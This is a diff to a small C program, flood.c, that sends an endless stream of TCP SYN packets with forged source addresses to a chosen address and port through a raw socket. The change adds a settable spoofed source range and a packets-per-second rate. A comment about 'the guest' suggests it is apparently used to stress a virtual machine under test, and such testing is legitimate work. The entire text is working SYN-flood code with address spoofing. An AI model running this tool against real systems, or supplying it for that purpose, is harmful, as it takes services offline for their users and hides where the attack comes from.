@@ -1,9 +1,11 @@
 /*
  * flood.c - TCP SYNs from addresses that nobody has, until it is ended.
  *
- * usage: flood ADDRESS PORT      as root; sources are in ADDRESS's /17 above
+ * usage: flood ADDRESS PORT FROM RATE      as root
  *
- * Says "flooding" when the first thousand are out.
+ * FROM is the first of 32,768 addresses; RATE is thousands a second: with more
+ * than the wire holds, that is what is seen, and not what the guest does. Says
+ * "flooding" after three seconds.
  */
 #include <arpa/inet.h>
 #include <err.h>
@@ -14,7 +16,9 @@
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
+#include <string.h>
 #include <sys/socket.h>
+#include <time.h>
 
 struct packet {
     struct iphdr ip;
@@ -24,11 +28,13 @@ struct packet {
 /* The sum of 16-bit words [RFC 1071]. */
 static uint32_t sum(const void *data, size_t n)
 {
-    const uint16_t *word = data;
     uint32_t total = 0;
+    uint16_t word;
 
-    for (size_t i = 0; i < n / 2; i++)
-        total += word[i];
+    for (size_t i = 0; i < n; i += sizeof(word)) {
+        memcpy(&word, (const char *)data + i, sizeof(word));
+        total += word;
+    }
     return total;
 }
 
@@ -39,9 +45,9 @@ static uint16_t fold(uint32_t total)
     return (uint16_t)~total;
 }
 
-static void make(struct packet *p, in_addr_t to, uint16_t port)
+static void make(struct packet *p, in_addr_t from, in_addr_t to, uint16_t port)
 {
-    uint32_t host = ntohl(to) | 0x8000 | (uint32_t)(random() & 0x7ffe);
+    uint32_t host = ntohl(from) + (uint32_t)(random() & 0x7fff);
 
     *p = (struct packet){
         .ip = {.version = 4,
@@ -67,21 +73,31 @@ int main(int argc, char **argv)
 {
     struct sockaddr_in to = {.sin_family = AF_INET};
     int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+    struct timespec next;
+    struct packet p;
+    in_addr_t from;
+    long rate;
 
-    if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
-        errx(2, "usage: flood ADDRESS PORT");
+    if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
+        inet_pton(AF_INET, argv[3], &from) != 1 || (rate = atol(argv[4])) < 1)
+        errx(2, "usage: flood ADDRESS PORT FROM RATE");
     if (fd < 0)
         err(1, "raw socket");
-    for (long i = 0;; i++) {
-        struct packet p;
-        make(&p, to.sin_addr.s_addr, (uint16_t)atoi(argv[2]));
-        if (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) <
-                0 &&
-            errno != ENOBUFS)
-            err(1, "SYN %ld", i);
-        if (i == 1000) {
-            puts("flooding");
-            fflush(stdout);
+    clock_gettime(CLOCK_MONOTONIC, &next);
+    for (long ms = 0;; ms++) {
+        for (long i = 0; i < rate; i++) {
+            make(&p, from, to.sin_addr.s_addr, (uint16_t)atoi(argv[2]));
+            if (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to,
+                       sizeof(to)) < 0 &&
+                errno != ENOBUFS)
+                err(1, "SYN");
         }
+        if (ms == 3000)
+            puts("flooding");
+        fflush(stdout);
+        next.tv_nsec += 1000000;
+        next.tv_sec += next.tv_nsec / 1000000000;
+        next.tv_nsec %= 1000000000;
+        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
     }
 }
